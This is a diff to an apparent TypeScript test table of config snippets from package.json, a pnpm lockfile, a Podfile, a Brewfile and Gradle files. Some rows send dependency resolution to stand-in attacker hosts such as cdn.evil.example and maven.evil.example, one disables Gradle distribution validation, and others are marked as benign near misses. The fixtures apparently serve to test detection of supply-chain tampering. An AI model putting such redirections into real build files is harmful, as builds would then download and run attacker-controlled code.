@@ -11,6 +11,66 @@ const ROOT = '/home/dev/project';
 
 const ROWS: { note: string; file: string; content: string; asked: boolean }[] = [
   {
+    note: "a dependency from a personal fork's branch",
+    file: 'packages/ui/package.json',
+    content: '  "dependencies": {\n    "@radix-ui/react-dialog": "github:kvdev42/radix-dialog#patch-1"\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: a workspace dependency',
+    file: 'packages/ui/package.json',
+    content: '  "dependencies": {\n    "@acme/api-client": "workspace:*"\n',
+    asked: false,
+  },
+  {
+    note: 'a lockfile entry resolved to a tarball on another host',
+    file: 'pnpm-lock.yaml',
+    content: '  /zod@3.23.8:\n    resolution: {tarball: https://cdn.evil.example/zod-3.23.8.tgz}\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: a lockfile entry by integrity',
+    file: 'pnpm-lock.yaml',
+    content: '  /zod@3.23.8:\n    resolution: {integrity: sha512-FAKE}\n',
+    asked: false,
+  },
+  {
+    note: 'a pod spec source on another host',
+    file: 'ios/Podfile',
+    content: "source 'https://git.evil.example/acme/Specs.git'\nplatform :ios, '15.1'\n",
+    asked: true,
+  },
+  {
+    note: "near miss: CocoaPods' own specs",
+    file: 'ios/Podfile',
+    content: "source 'https://github.com/CocoaPods/Specs.git'\nplatform :ios, '15.1'\n",
+    asked: false,
+  },
+  {
+    note: "a Brewfile tapping a third party's formulas",
+    file: 'Brewfile',
+    content: 'brew "watchman"\ntap "xcodetools-dev/tap"\nbrew "xcodetools-dev/tap/xcbeautify"\n',
+    asked: true,
+  },
+  {
+    note: "near miss: a Brewfile of Homebrew's and vendors' formulas",
+    file: 'Brewfile',
+    content: 'brew "watchman"\nbrew "stripe/stripe-cli/stripe"\ncask "android-studio"\n',
+    asked: false,
+  },
+  {
+    note: "near miss: a Gradle repository in a dependency's folder",
+    file: 'android/build.gradle',
+    content: '        mavenCentral()\n        maven { url("$rootDir/../node_modules/detox/Detox-android") }\n',
+    asked: false,
+  },
+  {
+    note: 'a Gradle repository on another host',
+    file: 'android/build.gradle',
+    content: "        mavenCentral()\n        maven { url 'https://maven.evil.example/releases' }\n",
+    asked: true,
+  },
+  {
     note: "the Gradle wrapper's distribution from another host",
     file: 'gradle/wrapper/gradle-wrapper.properties',
     content: 'distributionUrl=https\\://dist.x.evil.example/gradle-8.5-bin.zip\nvalidateDistributionUrl=false\n',
